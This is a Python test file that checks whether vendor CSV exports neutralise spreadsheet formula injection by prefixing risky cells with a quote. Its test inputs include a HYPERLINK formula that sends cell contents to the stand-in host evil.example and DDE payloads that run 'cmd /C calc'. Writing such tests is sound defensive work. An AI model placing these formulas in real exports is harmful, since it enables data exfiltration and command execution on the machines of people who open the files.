"""Vendor CSV files are spreadsheet-safe: no cell a spreadsheet would evaluate (OWASP rule).

A text cell starting with ``=``, ``+``, ``-``, ``@``, a tab, CR, LF or ``'`` gets one leading
``'``; JSON numbers stay numbers; JSON Lines are byte-exact; the manifest hashes what is sent.
"""

import csv
import hashlib
import io
from typing import Any

import orjson
import pytest

from app.exports.formats import ManifestBuilder, Writer, neutralise
from tests.api.test_vendor import download, items_of, lease, report, sealed_batch
from tests.support import LiveServer, Office

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"クリック")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",
]
COLUMNS = ["item", "procedure", "due_on", "text", "amount", "plain"]


def payload(text: str, amount: float | int = -5) -> str:
    item = {
        "item": "t1",
        "procedure": "p",
        "due_on": "2026-08-31",
        "values": {"text": text, "amount": amount, "plain": "髙橋 ①子"},
    }
    return orjson.dumps(item).decode()


def cells(data: bytes, encoding: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode(encoding), newline="")))


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "cp932"])
@pytest.mark.parametrize("text", HOSTILE)
def test_formula_cells_get_a_quote_and_read_back_by_dropping_it(text: str, encoding: str) -> None:
    writer = Writer("csv", encoding, COLUMNS)
    data = writer.start() + writer.chunk([payload(text)])
    header, row = cells(data, "utf-8-sig" if encoding != "cp932" else "cp932")
    assert header == COLUMNS
    cell = row[COLUMNS.index("text")]
    assert cell == "'" + text and cell[1:] == text
    # A negative JSON number is a number, not a formula: written as it is.
    assert row[COLUMNS.index("amount")] == "-5"
    assert row[COLUMNS.index("plain")] == "髙橋 ①子"


def test_plain_text_and_numbers_are_untouched_and_jsonl_is_byte_exact() -> None:
    lines = [payload("佐藤 花子", -0.25), payload(HOSTILE[0], 3)]
    writer = Writer("csv", "utf-8", COLUMNS)
    _header, first, second = cells(writer.start() + writer.chunk(lines), "utf-8")
    assert first[3:] == ["佐藤 花子", "-0.25", "髙橋 ①子"] and second[4] == "3"
    jsonl = Writer("jsonl", "utf-8", COLUMNS)
    assert jsonl.start() + jsonl.chunk(lines) == "".join(f"{line}\n" for line in lines).encode()


def test_a_number_written_as_text_is_still_neutralised() -> None:
    assert neutralise("-5") == "'-5" and neutralise("5") == "5" and neutralise("") == ""


def test_hostile_column_names_are_neutralised_too() -> None:
    writer = Writer("csv", "utf-8", ["item", "=cmd|calc"])
    assert cells(writer.start(), "utf-8") == [["item", "'=cmd|calc"]]


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "cp932"])
def test_the_manifest_is_the_hash_of_the_neutralised_bytes(encoding: str) -> None:
    lines = [payload(text) for text in HOSTILE]
    builder = ManifestBuilder([encoding], COLUMNS)
    builder.add(lines)
    writer = Writer("csv", encoding, COLUMNS)
    sent = writer.start() + writer.chunk(lines)
    info = builder.manifest()["csv"][encoding]
    assert info == {"sha256": hashlib.sha256(sent).hexdigest(), "bytes": len(sent)}


def test_a_batch_sealed_before_the_rule_is_still_written_as_sealed() -> None:
    raw = Writer("csv", "utf-8", COLUMNS, safe=False)
    data = raw.start() + raw.chunk([payload(HOSTILE[0])])
    assert cells(data, "utf-8")[1][3] == HOSTILE[0]


async def test_vendor_downloads_carry_no_formula_and_match_their_manifest(
    server: LiveServer, office: Office
) -> None:
    names = [
        '=HYPERLINK("http://evil.example","x")',
        "+cmd|' /C calc'!A0",
        "@SUM(1+1)",
        "-2+3",
        "\t=1+1",
    ]
    _contract, token, sealed = await sealed_batch(server, office, [report(n) for n in names])
    [batch] = sealed["batches"]
    async with server.client(token) as vendor:
        grant = await lease(vendor, batch["id"])
        files = {(f["format"], f["encoding"]): f for f in grant["manifest"]["files"]}
        for encoding in ("utf-8", "utf-8-sig", "cp932"):
            data = (
                await download(vendor, batch["id"], grant["lease_token"], "csv", encoding)
            ).content
            assert hashlib.sha256(data).hexdigest() == files[("csv", encoding)]["sha256"]
            rows: list[dict[str, Any]] = items_of(data, "csv", encoding)
            got = sorted(row["claimant_name"] for row in rows)
            assert got == sorted("'" + n for n in names)
            for row in rows:
                assert not any(
                    str(v).startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values()
                )
        jsonl = (
            await download(vendor, batch["id"], grant["lease_token"], "jsonl", "utf-8")
        ).content
        assert sorted(
            i["values"]["claimant_name"] for i in items_of(jsonl, "jsonl", "utf-8")
        ) == sorted(names)
